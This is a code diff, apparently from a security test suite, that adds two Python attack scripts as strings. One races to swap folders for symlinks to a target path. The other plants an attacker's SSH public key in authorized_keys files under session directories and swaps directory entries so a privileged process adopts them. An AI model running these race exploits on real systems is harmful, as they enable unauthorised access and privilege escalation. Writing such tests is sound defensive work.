@@ -46,6 +46,43 @@ while True:
 """
 _STAYS = "import signal, time; signal.signal(15, signal.SIG_IGN); time.sleep(1000)"
 
+#: Exchanges each folder that it can reach for a link to another, again and again.
+SWAPS = """
+import os, sys
+top, aim = sys.argv[1:]
+names = ("one", "two", "three")
+print("ready", flush=True)
+while True:
+    for name in names:
+        try:
+            os.rename(f"{top}/{name}", f"{top}/.{name}")
+            os.symlink(aim, f"{top}/{name}")
+        except OSError:
+            continue
+"""
+#: Exchanges all that appears in its folder for another with a key of its own, and back.
+PLANTS = """
+import os, sys, time
+folder, public = sys.argv[1:]
+mine, before = f"{folder}/.mine", f"{folder}/.before"
+for place in ("", "session", "colabwidget", "colabwidget/session"):
+    os.makedirs(f"{mine}/{place}", mode=0o700, exist_ok=True)
+    with open(f"{mine}/{place}/authorized_keys", "w") as file:
+        file.write(public + os.linesep)
+print("ready", flush=True)
+while True:
+    for name in os.listdir(folder):
+        if name.startswith("."):
+            continue
+        place = f"{folder}/{name}"
+        for source, aim in ((place, before), (mine, place), (place, mine), (before, place)):
+            try:
+                os.rename(source, aim)
+            except OSError:
+                pass
+            time.sleep(0.0005)
+"""
+
 
 def stay(details: dict[str, Any], folder: Path) -> int:
     """Let the account do all of that at once; how many attacks were begun."""
